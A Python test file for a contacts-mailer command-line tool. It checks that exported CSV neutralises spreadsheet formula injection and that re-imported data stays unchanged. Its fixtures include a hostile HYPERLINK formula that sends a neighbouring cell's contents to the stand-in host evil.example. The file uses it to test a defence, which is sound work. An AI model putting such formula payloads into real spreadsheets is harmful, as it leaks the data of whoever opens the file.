"""CSV the tool writes opens in a Finnish Excel as it is and cannot run a formula there."""

from __future__ import annotations

import csv
import io

from tests.contacts_helpers import snapshot, tool_csv, write_csv

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A2;"Click")'


def _hostile_contacts(workspace, tmp_path):
    path = write_csv(
        tmp_path / "in.csv",
        [
            ["email", "name", "organization", "Puhelin", "Huom"],
            ["a@example.org", HOSTILE, "+Plus Oy", "+358 40 123 4567", "-"],
            ["b@example.org", "@SUM(1+1)", "'=already quoted", "'plain quote", "- a list"],
            ["c@example.org", "Aino Aikio", "Lapin liitto; Rovaniemi", "040 1", ""],
        ],
    )
    res = workspace.cli("contacts", "import", str(path))
    assert res.exit_code == 0, res.stderr
    assert "3 added" in res.stdout
    # a value that starts with a quote before `=` can only be typed in, and survives too
    res = workspace.cli("contacts", "add", "d@example.org", "--org", "'=typed in")
    assert res.exit_code == 0, res.stderr


def test_export_quotes_formula_cells_and_import_reads_it_back_unchanged(workspace, tmp_path):
    _hostile_contacts(workspace, tmp_path)
    out = tmp_path / "export.csv"
    assert workspace.cli("contacts", "export", "-o", str(out)).exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    assert raw.splitlines()[0].decode("utf-8-sig").startswith("email;name;organization")
    rows = {r["email"]: r for r in tool_csv(raw.decode("utf-8"))}
    assert rows["a@example.org"]["name"] == "'" + HOSTILE
    assert rows["a@example.org"]["organization"] == "'+Plus Oy"
    assert rows["a@example.org"]["Puhelin"] == "'+358 40 123 4567"
    assert rows["a@example.org"]["Huom"] == "'-"
    assert rows["b@example.org"]["name"] == "'@SUM(1+1)"
    assert rows["b@example.org"]["organization"] == "'=already quoted"  # the sheet's quote went
    assert rows["d@example.org"]["organization"] == "''=typed in"
    assert rows["b@example.org"]["Puhelin"] == "'plain quote"  # no formula: as it was
    assert rows["c@example.org"]["organization"] == "Lapin liitto; Rovaniemi"
    for row in rows.values():
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell

    # Read back into the same workspace: nothing changes.
    before = snapshot(workspace.path / "mailer.db")
    res = workspace.cli("contacts", "import", str(out))
    assert "4 unchanged" in res.stdout, res.stdout
    assert snapshot(workspace.path / "mailer.db") == before
    # And the stored values are the original ones, not the quoted ones.
    listing = workspace.cli("contacts", "list", "-f", "csv").stdout
    listed = {r["email"]: r for r in tool_csv(listing)}
    assert listed["a@example.org"]["name"] == "'" + HOSTILE
    assert listed["d@example.org"]["organization"] == "''=typed in"
    shown = workspace.cli("contacts", "show", "a@example.org", "--format", "json").stdout
    assert f'"name": "{HOSTILE.replace(chr(34), chr(92) + chr(34))}"' in shown


def test_the_import_report_repeats_no_live_formula(workspace, tmp_path):
    path = write_csv(
        tmp_path / "in.csv",
        [["email", "name"], ['=HYPERLINK("http://evil.example")', "x"], ["ok@example.org", "y"]],
    )
    report = tmp_path / "report.csv"
    res = workspace.cli("contacts", "import", str(path), "--report", str(report))
    assert res.exit_code == 0, res.stderr
    (problem,) = tool_csv(report.read_text(encoding="utf-8"))
    assert problem["email"] == '\'=HYPERLINK("http://evil.example")'
    assert problem["outcome"] == "invalid"


def test_the_delimiter_follows_the_config(workspace, tmp_path):
    workspace.set_config("defaults", "csv_delimiter", '","')
    _hostile_contacts(workspace, tmp_path)
    listed = workspace.cli("contacts", "list", "--format", "csv").stdout
    rows = tool_csv(listed, delimiter=",")
    assert [r["name"] for r in rows] == ["'" + HOSTILE, "'@SUM(1+1)", "Aino Aikio", ""]
    exported = workspace.cli("contacts", "export").stdout
    assert exported.startswith("\ufeffemail,name,")
    before = snapshot(workspace.path / "mailer.db")
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8", newline="")
    assert "4 unchanged" in workspace.cli("contacts", "import", str(again)).stdout
    assert snapshot(workspace.path / "mailer.db") == before
    workspace.set_config("defaults", "csv_delimiter", '"|"')
    res = workspace.cli("contacts", "list")
    assert res.exit_code == 2 and "defaults.csv_delimiter" in res.stderr


def test_every_format_csv_has_the_bom_and_semicolons(workspace, tmp_path):
    _hostile_contacts(workspace, tmp_path)
    for command in (("lists", "list"), ("segments", "list"), ("campaign", "list")):
        res = workspace.cli(*command, "--format", "csv")
        assert res.exit_code == 0, (command, res.stderr)
        assert res.stdout.startswith("\ufeff"), command
        header = next(csv.reader(io.StringIO(res.stdout[1:]), delimiter=";"))
        assert len(header) > 1, (command, header)
